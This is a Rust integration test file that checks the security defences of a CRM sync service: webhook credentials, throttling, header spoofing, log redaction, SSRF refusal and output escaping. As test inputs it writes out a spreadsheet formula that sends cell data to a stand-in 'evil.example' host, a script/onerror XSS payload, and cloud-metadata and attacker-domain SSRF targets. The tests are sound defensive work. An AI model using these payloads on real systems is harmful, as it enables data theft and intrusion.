//! Security hardening (issue 17, and the webhook-credential half of issue 16): each test names
//! the defence it checks; `docs/security.md` lists them line by line.

use pipedrive_sim::{FaultSpec, SimConfig};
use reqwest::{Method, StatusCode};
use serde_json::{json, Value};
use tandem_engine::sync::{connections, links};
use tandem_tests::fields::text_of;
use tandem_tests::{pid, spawn_app, spawn_app_with, TestApp};
use uuid::Uuid;

fn seeded(persons: usize) -> SimConfig {
    SimConfig {
        time_scale: 0.001,
        persons,
        ..SimConfig::default()
    }
}

async fn post_webhook_as(
    app: &TestApp,
    connection: &str,
    user: &str,
    password: &str,
    body: &Value,
) -> reqwest::Response {
    app.http
        .post(format!("{}/webhooks/pipedrive/{connection}", app.base_url))
        .basic_auth(user, Some(password))
        .json(body)
        .send()
        .await
        .unwrap()
}

fn person_change(id: &str) -> Value {
    json!({ "meta": { "id": id, "entity": "person", "action": "change", "entity_id": "1" }, "data": { "id": 1 } })
}

async fn inbox_rows(app: &TestApp) -> i64 {
    tandem_engine::store::stats::count_inbox_events(app.store.db(), None)
        .await
        .unwrap() as i64
}

#[tokio::test]
async fn the_pipedrive_receiver_answers_the_same_401_for_unknown_connections_and_wrong_credentials()
{
    let app = spawn_app().await;
    let connection = app.connect_pipedrive().await;
    let (user, _) =
        connections::webhook_credentials(&app.engine, app.store.db(), connection.into())
            .await
            .unwrap()
            .unwrap();
    let body = person_change("ev-1");
    let wrong_password =
        post_webhook_as(&app, &connection.to_string(), &user, "wrong", &body).await;
    let unknown_id = post_webhook_as(&app, &Uuid::new_v4().to_string(), &user, "x", &body).await;
    let not_an_id = post_webhook_as(&app, "not-a-uuid", &user, "x", &body).await;
    let mut answers = Vec::new();
    for response in [wrong_password, unknown_id, not_an_id] {
        assert_eq!(response.status(), StatusCode::UNAUTHORIZED);
        answers.push(response.text().await.unwrap());
    }
    assert_eq!(
        answers[0], answers[1],
        "unknown ids look like wrong credentials"
    );
    assert_eq!(answers[0], answers[2]);
    assert_eq!(inbox_rows(&app).await, 0);
}

#[tokio::test]
async fn deliveries_for_a_disconnected_connection_are_refused_and_not_stored() {
    let app = spawn_app().await;
    let connection = app.connect_pipedrive().await;
    let (user, password) =
        connections::webhook_credentials(&app.engine, app.store.db(), connection.into())
            .await
            .unwrap()
            .unwrap();
    // Accepted while connected (the credentials are now in the receiver's cache).
    let before = post_webhook_as(
        &app,
        &connection.to_string(),
        &user,
        &password,
        &person_change("ev-before"),
    )
    .await;
    assert_eq!(before.status(), StatusCode::OK);
    let stored = inbox_rows(&app).await;

    connections::disconnect(&app.engine, connection.into())
        .await
        .unwrap();
    let after = post_webhook_as(
        &app,
        &connection.to_string(),
        &user,
        &password,
        &person_change("ev-after"),
    )
    .await;
    assert_eq!(after.status(), StatusCode::UNAUTHORIZED);
    assert_eq!(
        inbox_rows(&app).await,
        stored,
        "nothing stored after the disconnect"
    );
}

#[tokio::test]
async fn after_a_reconnect_and_a_restart_pipedrive_webhooks_still_carry_the_credentials_tandem_accepts(
) {
    let mut app = spawn_app_with(seeded(2), |_| {}).await;
    let connection = app.connect_and_sync().await;
    let sim = app.sim.handle();
    // Connect the same company again, as the admin API does.
    let reconnected = app
        .admin(Method::POST, "/admin/api/connections")
        .json(&json!({ "api_token": sim.config().api_token, "api_domain": sim.base_url() }))
        .send()
        .await
        .unwrap();
    assert_eq!(reconnected.status(), StatusCode::CREATED);
    app.restart().await;

    // Pipedrive's webhook for persons, with the credentials Pipedrive holds for it.
    let hook = sim
        .webhooks()
        .into_iter()
        .find(|w| {
            w["event_object"] == "person"
                && w["subscription_url"]
                    .as_str()
                    .unwrap()
                    .ends_with(&format!("/webhooks/pipedrive/{connection}"))
        })
        .expect("tandem's person webhook is registered");
    let (user, password) = (
        hook["http_auth_user"].as_str().unwrap().to_owned(),
        hook["http_auth_password"].as_str().unwrap().to_owned(),
    );

    // A real delivery body (the simulator's own, not delivered: the old process is gone).
    sim.set_faults(FaultSpec::parse("webhooks:drop=1").unwrap());
    let person = sim.persons()[0]["id"].as_i64().unwrap();
    sim.update_person_as_user(person, json!({ "name": "After Reconnect" }))
        .unwrap();
    let body = sim
        .wait_for_deliveries(std::time::Duration::from_secs(10), |d| {
            d.iter().any(|d| d.entity_id == person)
        })
        .await
        .into_iter()
        .rfind(|d| d.entity_id == person)
        .unwrap()
        .body;
    let response = post_webhook_as(&app, &connection.to_string(), &user, &password, &body).await;
    assert_eq!(response.status(), StatusCode::OK);
    app.drive().await;
    let link = links::by_person(app.store.db(), connection.into(), pid(person))
        .await
        .unwrap()
        .unwrap();
    assert_eq!(
        text_of(&app.contact(link.contact_id.uuid()).await, "name").as_deref(),
        Some("After Reconnect")
    );
}

#[tokio::test]
async fn reconciliation_re_registers_a_webhook_whose_credentials_no_longer_match() {
    let app = spawn_app().await;
    let connection = app.connect_pipedrive().await;
    let sim = app.sim.handle();
    // Someone replaces tandem's person webhook with one carrying another password.
    app.replace_person_webhook("stale-password").await;

    let conn = connections::load(&app.engine, connection.into())
        .await
        .unwrap();
    let report = tandem_engine::sync::inbound::poller::reconcile(&app.engine, &conn)
        .await
        .unwrap();
    assert_eq!(report.webhooks_repaired, 1);
    let (_, password) =
        connections::webhook_credentials(&app.engine, app.store.db(), connection.into())
            .await
            .unwrap()
            .unwrap();
    let persons: Vec<Value> = sim
        .webhooks()
        .into_iter()
        .filter(|w| w["event_object"] == "person")
        .collect();
    assert_eq!(persons.len(), 1, "the stale webhook is gone: {persons:?}");
    assert_eq!(persons[0]["http_auth_password"], password.as_str());
}

#[tokio::test]
async fn a_webhook_subscription_secret_is_neither_stored_in_clear_nor_replayed() {
    let app = spawn_app().await;
    let create = || {
        app.api(Method::POST, "/api/v1/webhook-subscriptions")
            .header("idempotency-key", "sub-1")
            .json(&json!({ "url": "http://127.0.0.1:9/hooks" }))
    };
    let first = create().send().await.unwrap();
    assert_eq!(first.status(), StatusCode::CREATED);
    assert_eq!(first.headers()["cache-control"], "no-store");
    let first: Value = first.json().await.unwrap();
    let secret = first["secret"].as_str().unwrap().to_owned();
    assert!(secret.starts_with("whsec_"));

    // Nowhere in the idempotency table, in any form.
    let db = app.store.db();
    use sea_orm::{ConnectionTrait, Statement};
    let rows = db
        .query_all(Statement::from_string(
            db.get_database_backend(),
            "SELECT response_body FROM idempotency_key".to_owned(),
        ))
        .await
        .unwrap();
    assert_eq!(rows.len(), 1);
    for row in rows {
        let body: Value = row.try_get_by_index(0).unwrap();
        let text = body.to_string();
        let key = secret.trim_start_matches("whsec_");
        assert!(!text.contains(key), "{text}");
    }

    // A replay does not show it again: a clear refusal naming what was created.
    let replay = create().send().await.unwrap();
    assert_eq!(replay.status(), StatusCode::CONFLICT);
    let replay: Value = replay.json().await.unwrap();
    assert_eq!(replay["code"], "secret_not_replayed");
    assert!(!replay.to_string().contains(&secret));
    assert!(replay["detail"]
        .as_str()
        .unwrap()
        .contains(first["id"].as_str().unwrap()));
}

#[tokio::test]
async fn every_response_has_security_headers_and_the_console_a_strict_content_security_policy() {
    let app = spawn_app().await;
    for path in ["/admin/login", "/api/v1/contacts", "/healthz", "/nowhere"] {
        let response = app.get(path).await;
        let headers = response.headers();
        assert_eq!(headers["x-content-type-options"], "nosniff", "{path}");
        assert_eq!(headers["x-frame-options"], "DENY", "{path}");
        assert_eq!(headers["referrer-policy"], "no-referrer", "{path}");
        assert_eq!(headers["cache-control"], "no-store", "{path}");
        let csp = headers["content-security-policy"].to_str().unwrap();
        assert!(csp.contains("frame-ancestors 'none'"), "{path}: {csp}");
        assert!(csp.contains("default-src 'none'"), "{path}: {csp}");
    }
    // The console's stylesheet is exactly the one the policy allows by hash.
    let login = app.get("/admin/login").await;
    let csp = login.headers()["content-security-policy"]
        .to_str()
        .unwrap()
        .to_owned();
    let page = login.text().await.unwrap();
    let style = page
        .split("<style>")
        .nth(1)
        .and_then(|s| s.split("</style>").next())
        .unwrap();
    let hash = {
        use base64::Engine as _;
        use sha2::Digest as _;
        base64::engine::general_purpose::STANDARD.encode(sha2::Sha256::digest(style.as_bytes()))
    };
    assert!(
        csp.contains(&format!("style-src 'sha256-{hash}'")),
        "{csp} does not allow the page's stylesheet (sha256-{hash})"
    );
    // Personal data: a contact read through the API is never cached.
    let contacts = app
        .api(Method::GET, "/api/v1/contacts")
        .send()
        .await
        .unwrap();
    assert_eq!(contacts.status(), StatusCode::OK);
    assert_eq!(contacts.headers()["cache-control"], "no-store");
}

#[tokio::test]
async fn a_person_named_like_a_formula_is_exported_as_text_in_the_duplicates_csv() {
    let app = spawn_app().await;
    let sim = app.sim.handle();
    for name in [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "@SUM(1+1)",
    ] {
        sim.insert_person(
            json!({ "name": name, "emails": [{ "value": "twin@example.com", "primary": true }] }),
        )
        .unwrap();
    }
    app.connect_and_sync().await;
    let csv = app
        .admin(Method::GET, "/admin/api/duplicates.csv")
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let rows = csv.lines().filter(|l| l.contains("twin@example.com"));
    assert_eq!(rows.count(), 2, "{csv}");
    assert!(
        !csv.contains(",=") && !csv.contains(",@") && !csv.contains(",\"="),
        "{csv}"
    );
    assert!(
        csv.contains("\"'=HYPERLINK(") && csv.contains(",'@SUM(1+1),"),
        "{csv}"
    );
}

async fn json_error(response: reqwest::Response) -> (StatusCode, Value) {
    let status = response.status();
    let content_type = response.headers()["content-type"]
        .to_str()
        .unwrap()
        .to_owned();
    assert!(
        content_type.starts_with("application/json"),
        "{status}: {content_type}"
    );
    (status, response.json().await.unwrap())
}

#[tokio::test]
async fn oversized_bodies_are_413_and_framework_rejections_have_the_json_error_body_everywhere() {
    let app = spawn_app_with(seeded(0), |s| s.http.body_limit_bytes = 4096).await;
    let big = json!({ "survivor_person_id": 1, "merged_person_id": 2, "pad": "x".repeat(10_000) });
    for path in ["/admin/api/duplicates/merge", "/admin/api/duplicates/link"] {
        let response = app
            .admin(Method::POST, path)
            .json(&big)
            .send()
            .await
            .unwrap();
        let (status, body) = json_error(response).await;
        assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE, "{path}");
        assert_eq!(body["code"], "payload_too_large", "{path}");
    }
    let contact = app
        .api(Method::POST, "/api/v1/contacts")
        .json(&json!({ "email": "big@example.com", "fields": { "name": "x".repeat(10_000) } }))
        .send()
        .await
        .unwrap();
    assert_eq!(json_error(contact).await.0, StatusCode::PAYLOAD_TOO_LARGE);

    let connection = Uuid::new_v4();
    let not_utf8 = app
        .admin(
            Method::PUT,
            &format!("/admin/api/connections/{connection}/mappings"),
        )
        .header("content-type", "application/json")
        .body(vec![b'{', 0xff, 0xfe, b'}'])
        .send()
        .await
        .unwrap();
    let (status, body) = json_error(not_utf8).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert_eq!(body["code"], "bad_request");
    let bad_id = app
        .admin(Method::GET, "/admin/api/connections/not-a-uuid")
        .send()
        .await
        .unwrap();
    let (status, body) = json_error(bad_id).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert!(
        body["detail"].as_str().unwrap().contains("not-a-uuid"),
        "{body}"
    );
    let no_route = app.get("/api/v1/nothing-here").await;
    assert_eq!(json_error(no_route).await.1["code"], "not_found");
    let wrong_method = app
        .admin(Method::DELETE, "/admin/api/duplicates")
        .send()
        .await
        .unwrap();
    assert_eq!(
        json_error(wrong_method).await.1["code"],
        "method_not_allowed"
    );
}

/// Everything logged in this test process, at every level.
#[derive(Clone, Default)]
struct Captured(std::sync::Arc<std::sync::Mutex<Vec<u8>>>);

impl std::io::Write for Captured {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(buf);
        Ok(buf.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

impl<'a> tracing_subscriber::fmt::MakeWriter<'a> for Captured {
    type Writer = Captured;
    fn make_writer(&'a self) -> Captured {
        self.clone()
    }
}

#[tokio::test]
async fn request_logs_hold_the_path_but_never_the_query_with_oauth_codes_or_email_addresses() {
    let captured = Captured::default();
    // tandem's own filter, opened to every level.
    let subscriber = tracing_subscriber::fmt()
        .with_env_filter(tandem_engine::telemetry::env_filter("trace"))
        .with_ansi(false)
        .with_writer(captured.clone())
        .finish();
    // nextest runs every test in its own process, so this test owns the global subscriber.
    tracing::subscriber::set_global_default(subscriber).expect("no subscriber installed yet");
    let app = spawn_app().await;
    let listed = app
        .api(
            Method::GET,
            "/api/v1/contacts?email=private.person@example.com",
        )
        .send()
        .await
        .unwrap();
    assert_eq!(listed.status(), StatusCode::OK);
    let callback = app
        .get("/connections/pipedrive/callback?code=SECRETCODE123&state=SECRETSTATE456")
        .await;
    assert!(callback.status().is_client_error());
    let logs = String::from_utf8(captured.0.lock().unwrap().clone()).unwrap();
    assert!(
        logs.contains("/api/v1/contacts"),
        "requests are logged: {logs}"
    );
    assert!(logs.contains("/connections/pipedrive/callback"));
    for secret in ["private.person", "SECRETCODE123", "SECRETSTATE456"] {
        let line = logs.lines().find(|l| l.contains(secret));
        assert!(line.is_none(), "{secret} in the logs: {line:?}");
    }
}

/// A client whose requests come from `address` (any 127.x address reaches the loopback).
pub(crate) fn client_from(address: [u8; 4]) -> reqwest::Client {
    reqwest::Client::builder()
        .local_address(std::net::IpAddr::from(address))
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap()
}

async fn login(app: &TestApp, client: &reqwest::Client, token: &str) -> StatusCode {
    client
        .post(format!("{}/admin/login", app.base_url))
        .form(&[("token", token)])
        .send()
        .await
        .unwrap()
        .status()
}

#[tokio::test]
async fn forty_wrong_logins_lock_that_address_out_even_with_the_right_token_but_not_the_real_admin()
{
    let app = spawn_app().await;
    let admin = client_from([127, 0, 0, 2]);
    let attacker = client_from([127, 0, 0, 3]);
    // The real admin signed in before (from their usual address).
    assert_eq!(
        login(&app, &admin, "test-admin-token").await,
        StatusCode::SEE_OTHER
    );
    let mut statuses = Vec::new();
    for i in 0..40 {
        statuses.push(login(&app, &attacker, &format!("guess-{i:02}-guess-guess")).await);
    }
    assert!(
        statuses[..5].iter().all(|s| *s == StatusCode::UNAUTHORIZED),
        "{statuses:?}"
    );
    assert!(
        statuses[5..].contains(&StatusCode::TOO_MANY_REQUESTS),
        "{statuses:?}"
    );
    let locked = attacker
        .post(format!("{}/admin/login", app.base_url))
        .form(&[("token", "test-admin-token")])
        .send()
        .await
        .unwrap();
    assert_eq!(
        locked.status(),
        StatusCode::TOO_MANY_REQUESTS,
        "the right token does not get through"
    );
    assert!(locked.headers().contains_key("retry-after"));
    // The same lock on the admin Bearer, and the sync log says so.
    let bearer = attacker
        .get(format!("{}/admin/api/connections", app.base_url))
        .bearer_auth("test-admin-token")
        .send()
        .await
        .unwrap();
    assert_eq!(bearer.status(), StatusCode::TOO_MANY_REQUESTS);
    assert!(!app.log_entries("auth_throttled").await.is_empty());
    // The real admin is not locked out.
    assert_eq!(
        login(&app, &admin, "test-admin-token").await,
        StatusCode::SEE_OTHER
    );
}

#[tokio::test]
async fn wrong_api_keys_and_wrong_webhook_credentials_are_throttled_per_address() {
    let app = spawn_app().await;
    let connection = app.connect_pipedrive().await;
    let attacker = client_from([127, 0, 0, 4]);
    let mut last = StatusCode::OK;
    for _ in 0..10 {
        last = attacker
            .get(format!("{}/api/v1/contacts", app.base_url))
            .bearer_auth("wrong-key-wrong-key-wrong")
            .send()
            .await
            .unwrap()
            .status();
    }
    assert_eq!(last, StatusCode::TOO_MANY_REQUESTS);
    for _ in 0..10 {
        last = attacker
            .post(format!("{}/webhooks/pipedrive/{connection}", app.base_url))
            .basic_auth("tandem", Some("wrong"))
            .json(&person_change("x"))
            .send()
            .await
            .unwrap()
            .status();
    }
    assert_eq!(last, StatusCode::TOO_MANY_REQUESTS);
    // The app itself, from its own address, with its key (in any case of "Bearer").
    let ok = app
        .http
        .get(format!("{}/api/v1/contacts", app.base_url))
        .header(
            "authorization",
            format!("bEaReR {}", tandem_tests::TEST_API_KEY),
        )
        .send()
        .await
        .unwrap();
    assert_eq!(ok.status(), StatusCode::OK);
    let admin = app
        .http
        .get(format!("{}/admin/api/connections", app.base_url))
        .header("authorization", "BEARER test-admin-token")
        .send()
        .await
        .unwrap();
    assert_eq!(admin.status(), StatusCode::OK);
}

/// Lists the contacts with `key`, from `client`, with these `X-Forwarded-For` lines.
async fn contacts_forwarded_for(
    app: &TestApp,
    client: &reqwest::Client,
    forwarded_for: &[&str],
    key: &str,
) -> StatusCode {
    let mut request = client
        .get(format!("{}/api/v1/contacts", app.base_url))
        .bearer_auth(key);
    for line in forwarded_for {
        request = request.header("x-forwarded-for", *line);
    }
    request.send().await.unwrap().status()
}

/// The `client` (and `via`) of the address locks in the sync log.
async fn locked_clients(app: &TestApp) -> Vec<(Value, Value)> {
    app.log_entries("auth_throttled")
        .await
        .into_iter()
        .filter_map(|row| row.detail)
        .filter(|detail| !detail["client"].is_null())
        .map(|detail| (detail["client"].clone(), detail["via"].clone()))
        .collect()
}

#[tokio::test]
async fn behind_a_trusted_proxy_each_forwarded_client_is_throttled_on_its_own_and_named_in_the_log()
{
    let app = spawn_app_with(seeded(0), |settings| {
        settings.http.trusted_proxies = vec!["127.0.0.1".parse().unwrap()];
    })
    .await;
    // The load balancer, on 127.0.0.1, appends the address each request came from.
    let balancer = client_from([127, 0, 0, 1]);
    let mut statuses = Vec::new();
    for i in 0..10 {
        // What the attacker put in front is ignored: only what the balancer appended counts.
        let spoofed = format!("198.51.100.{i}, 203.0.113.8");
        let lines = [spoofed.as_str(), "203.0.113.7"];
        statuses.push(
            contacts_forwarded_for(&app, &balancer, &lines, "wrong-key-wrong-key-wrong").await,
        );
    }
    assert!(
        statuses[..5].iter().all(|s| *s == StatusCode::UNAUTHORIZED),
        "{statuses:?}"
    );
    assert_eq!(statuses[9], StatusCode::TOO_MANY_REQUESTS, "{statuses:?}");
    let key = tandem_tests::TEST_API_KEY;
    assert_eq!(
        contacts_forwarded_for(&app, &balancer, &["203.0.113.7"], key).await,
        StatusCode::TOO_MANY_REQUESTS,
        "the attacker is locked out, with the right key too"
    );
    assert_eq!(
        contacts_forwarded_for(&app, &balancer, &["203.0.113.8"], key).await,
        StatusCode::OK,
        "another client behind the same balancer is not"
    );
    assert_eq!(
        contacts_forwarded_for(&app, &balancer, &["[2001:db8::8]:4711"], key).await,
        StatusCode::OK
    );
    let locked = locked_clients(&app).await;
    assert!(!locked.is_empty());
    assert!(
        locked
            .iter()
            .all(|lock| *lock == (json!("203.0.113.7"), json!("127.0.0.1"))),
        "the sync log names the client and the balancer it came through: {locked:?}"
    );
    // A client reaching tandem directly is not a trusted proxy: its header is not read, so
    // naming the locked address does not lock it out either.
    let direct = client_from([127, 0, 0, 2]);
    assert_eq!(
        contacts_forwarded_for(&app, &direct, &["203.0.113.7"], key).await,
        StatusCode::OK
    );
}

#[tokio::test]
async fn with_no_trusted_proxy_a_forwarded_for_header_cannot_get_around_a_lock() {
    let app = spawn_app().await;
    let attacker = client_from([127, 0, 0, 9]);
    let mut last = StatusCode::OK;
    for i in 0..10 {
        let forged = format!("203.0.113.{i}");
        last =
            contacts_forwarded_for(&app, &attacker, &[&forged], "wrong-key-wrong-key-wrong").await;
    }
    assert_eq!(last, StatusCode::TOO_MANY_REQUESTS);
    assert_eq!(
        contacts_forwarded_for(
            &app,
            &attacker,
            &["198.51.100.1"],
            tandem_tests::TEST_API_KEY
        )
        .await,
        StatusCode::TOO_MANY_REQUESTS,
        "a new forwarded address is the same locked peer"
    );
    let locked = locked_clients(&app).await;
    assert!(!locked.is_empty());
    assert!(
        locked
            .iter()
            .all(|lock| *lock == (json!("127.0.0.9"), Value::Null)),
        "the sync log names the peer: {locked:?}"
    );
}

#[cfg(unix)]
#[tokio::test]
async fn the_sqlite_database_and_the_generated_key_file_are_readable_by_their_owner_only() {
    use std::os::unix::fs::PermissionsExt;
    let dir = std::env::temp_dir().join(format!("tandem-perm-{}", Uuid::new_v4().simple()));
    std::fs::create_dir_all(&dir).unwrap();
    let database = tandem_tests::TestDatabase::at(
        format!("sqlite://{}", dir.join("tandem.db").display()),
        "perm",
    );
    let mut settings = tandem_tests::test_settings(&database);
    settings.security.encryption_keys = Vec::new();
    settings.security.key_file = dir.join("tandem.key").display().to_string();
    let app = tandem_engine::app::Application::build(settings)
        .await
        .unwrap();
    for file in ["tandem.db", "tandem.db-wal", "tandem.key"] {
        let path = dir.join(file);
        if file.ends_with("-wal") && !path.exists() {
            continue;
        }
        let mode = std::fs::metadata(&path).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o600, "{file}: {mode:o}");
    }
    drop(app);
    std::fs::remove_dir_all(&dir).ok();
}

#[tokio::test]
async fn tandem_refuses_to_start_when_stored_secrets_exist_but_no_configured_key_opens_them() {
    let app = spawn_app().await;
    app.connect_pipedrive().await;
    // Another key than the one that encrypted the tokens.
    let mut other_key = app.settings.clone();
    other_key.security.encryption_keys = vec![tandem_engine::config::Redacted::new(
        tandem_engine::crypto::Vault::generate_key(),
    )];
    let error = tandem_engine::app::Application::build(other_key)
        .await
        .err()
        .expect("refused")
        .to_string();
    assert!(error.contains("cannot be opened"), "{error}");
    assert!(error.contains("To recover"), "{error}");
    assert!(error.contains("security.encryption_keys"), "{error}");
    // No key configured and the key file gone: no new key is generated silently.
    let key_file = std::env::temp_dir().join(format!("tandem-{}.key", Uuid::new_v4().simple()));
    let mut no_key = app.settings.clone();
    no_key.security.encryption_keys = Vec::new();
    no_key.security.key_file = key_file.display().to_string();
    let error = tandem_engine::app::Application::build(no_key)
        .await
        .err()
        .expect("refused")
        .to_string();
    assert!(error.contains("refusing to generate a new key"), "{error}");
    assert!(!key_file.exists());
}

#[tokio::test]
async fn webhook_subscriptions_to_internal_addresses_are_refused_unless_the_admin_allows_the_host()
{
    // Production settings: no host allowed.
    let app = spawn_app_with(seeded(0), |s| s.security.egress_allowed_hosts = Vec::new()).await;
    for url in [
        "http://127.0.0.1:5432/",
        "https://127.0.0.1:5432/",
        "https://[::1]:5432/",
        "https://10.0.0.7/hooks",
        "https://169.254.169.254/latest/meta-data",
        "https://localhost/hooks",
        "https://localhost.:8080/hooks",
        "http://app.example.com/hooks",
    ] {
        let response = app
            .api(Method::POST, "/api/v1/webhook-subscriptions")
            .json(&json!({ "url": url }))
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY, "{url}");
        let body: Value = response.json().await.unwrap();
        assert_eq!(body["fields"][0]["field"], "url", "{url}");
    }
    // Allowed explicitly (as the tests' and the demo's settings do): accepted.
    let allowed = spawn_app().await;
    let response = allowed
        .api(Method::POST, "/api/v1/webhook-subscriptions")
        .json(&json!({ "url": "http://127.0.0.1:9/hooks" }))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::CREATED);
}

#[tokio::test]
async fn a_failed_delivery_shows_the_api_only_that_it_failed() {
    let app = spawn_app().await;
    let created: Value = app
        .api(Method::POST, "/api/v1/webhook-subscriptions")
        .json(&json!({ "url": "http://127.0.0.1:9/closed-port" }))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let contact: Value = app
        .api(Method::POST, "/api/v1/contacts")
        .json(&json!({ "email": "probe@example.com", "fields": { "name": "Probe" } }))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let contact = Uuid::parse_str(contact["id"].as_str().unwrap()).unwrap();
    tandem_engine::sync::app::contact_event(
        app.store.db(),
        contact.into(),
        tandem_engine::sync::app::ContactEvent::Updated,
        None,
        chrono::Utc::now(),
    )
    .await
    .unwrap();
    tandem_engine::sync::app::run_deliveries_once(&app.engine)
        .await
        .unwrap();
    let log: Value = app
        .api(
            Method::GET,
            &format!(
                "/api/v1/webhook-subscriptions/{}/deliveries",
                created["id"].as_str().unwrap()
            ),
        )
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let first = &log["data"][0];
    assert_eq!(first["last_error"], "delivery_failed", "{log}");
    assert!(first.get("last_status").is_none(), "{log}");
    assert!(!log.to_string().contains("connect_failed"));
}

#[tokio::test]
async fn an_api_domain_outside_pipedrive_is_refused_so_no_token_is_sent_there() {
    let app = spawn_app().await;
    for domain in [
        "https://169.254.169.254",
        "http://attacker.example",
        "https://pipedrive.com.attacker.example",
    ] {
        let response = app
            .admin(Method::POST, "/admin/api/connections")
            .json(&json!({ "api_token": "t", "api_domain": domain }))
            .send()
            .await
            .unwrap();
        assert_eq!(
            response.status(),
            StatusCode::UNPROCESSABLE_ENTITY,
            "{domain}"
        );
        let body: Value = response.json().await.unwrap();
        assert_eq!(body["fields"][0]["field"], "api_domain", "{domain}");
    }
    assert_eq!(
        app.sim.handle().total_calls(),
        0,
        "nothing was sent anywhere"
    );
}

/// A page's text with the HTML character references askama writes (`&#60;`, `&amp;`, …) decoded.
fn html_text(page: &str) -> String {
    let mut out = String::with_capacity(page.len());
    let mut rest = page;
    while let Some(at) = rest.find('&') {
        out.push_str(&rest[..at]);
        rest = &rest[at..];
        let end = rest.find(';').unwrap_or(0);
        let decoded = match &rest[..=end] {
            "&amp;" => Some('&'),
            "&lt;" => Some('<'),
            "&gt;" => Some('>'),
            "&quot;" => Some('"'),
            reference => reference
                .strip_prefix("&#")
                .and_then(|n| n.strip_suffix(';'))
                .and_then(|n| n.parse::<u32>().ok())
                .and_then(char::from_u32),
        };
        match decoded {
            Some(c) => {
                out.push(c);
                rest = &rest[end + 1..];
            }
            None => {
                out.push('&');
                rest = &rest[1..];
            }
        }
    }
    out.push_str(rest);
    out
}

#[tokio::test]
async fn markup_in_names_fields_and_pipedrive_errors_is_shown_escaped_in_the_console() {
    use tandem_engine::sync::synclog::{self, Direction, Entry, Level};
    const MARKUP: &str = r#"<script>alert("x")</script><img src=x onerror='y'>"#;
    let app = spawn_app().await;
    let sim = app.sim.handle();
    for i in 0..2 {
        sim.insert_person(json!({
            "name": format!("Twin {i} {MARKUP}"),
            "emails": [{ "value": "twin@example.com", "primary": true }],
        }))
        .unwrap();
    }
    let field = sim
        .add_person_field(&format!("Campaign {MARKUP}"), "varchar", &[])
        .unwrap();
    let id = app.connect_and_sync().await;
    let mapped = app
        .admin(
            Method::PUT,
            &format!("/admin/api/connections/{id}/mappings"),
        )
        .json(&json!({ "local_field": "utm_campaign", "remote_field": field }))
        .send()
        .await
        .unwrap();
    assert_eq!(mapped.status(), StatusCode::OK);
    synclog::record(
        app.store.db(),
        Entry::new(
            Level::Error,
            Direction::Outbound,
            "dead_letter",
            format!("Pipedrive refused {MARKUP}"),
        )
        .connection(id.into())
        .status(Some(400))
        .remote_error(format!("Bad value {MARKUP}")),
        chrono::Utc::now(),
    )
    .await
    .unwrap();

    let client = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let login = client
        .post(format!("{}/admin/login", app.base_url))
        .form(&[("token", "test-admin-token")])
        .send()
        .await
        .unwrap();
    let cookie = login.headers()["set-cookie"].to_str().unwrap();
    let session = cookie.split(';').next().unwrap().to_owned();
    for (path, shown) in [
        (
            "/admin/log".to_owned(),
            vec!["Pipedrive refused ", "Bad value "],
        ),
        ("/admin/duplicates".to_owned(), vec!["Twin 0 ", "Twin 1 "]),
        (format!("/admin/fields?connection={id}"), vec!["Campaign "]),
    ] {
        let page = client
            .get(format!("{}{path}", app.base_url))
            .header("cookie", &session)
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        for forbidden in ["<script", "<img", "\"x\"", "'y'"] {
            assert!(!page.contains(forbidden), "{path} has {forbidden}:\n{page}");
        }
        let text = html_text(&page);
        for prefix in shown {
            assert!(
                text.contains(&format!("{prefix}{MARKUP}")),
                "{path} shows {prefix}… escaped:\n{page}"
            );
        }
    }
}
